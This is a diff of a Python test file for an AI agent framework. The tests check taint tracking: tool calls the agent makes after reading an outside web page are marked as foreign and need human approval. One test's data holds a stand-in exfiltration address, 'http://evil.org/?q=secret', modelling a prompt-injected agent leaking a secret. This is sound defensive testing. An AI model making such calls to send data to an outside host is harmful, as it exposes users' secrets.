@@ -13,6 +13,7 @@ import pytest
 
 from bubbot.models.scripted import ScriptedModel
 from bubbot.ports.model import ModelEvent, ModelReply, ModelRequest, ToolCall, Usage
+from bubbot.tape.provenance import Source, source_of
 from tests.approving import SANDBOXED, acting_tools, approving
 from tests.turns import Played, calls, says
 
@@ -69,6 +70,15 @@ class TestTaint:
             assert [name for name, _ in bench.done] == ["post.send", "page.read", "post.send"]
             await bench.say("to eve")
             assert len(bench.cards) == 2
+
+    async def test_a_yes_leaves_the_calls_as_foreign_as_what_made_the_model_write_them(self, tmp_path: Path) -> None:
+        async with approving(tmp_path, Played(READ, POST, says("asked"), says("sent"))) as bench:
+            await bench.say("read it")
+            card = bench.card
+            await bench.say(",new")  # so that nothing in the window says it
+            await bench.say(f",approve {card}")
+            assert bench.done == [("page.read", "http://x.org/"), ("post.send", "bob: hello")]
+            assert [source_of(entry) for entry in await bench.events("effect.begin")] == [Source.WORLD]
 
     async def test_an_address_that_a_model_composed_asks_once_the_turn_is_tainted(self, tmp_path: Path) -> None:
         second = calls("page_read", address="http://evil.org/?q=secret")
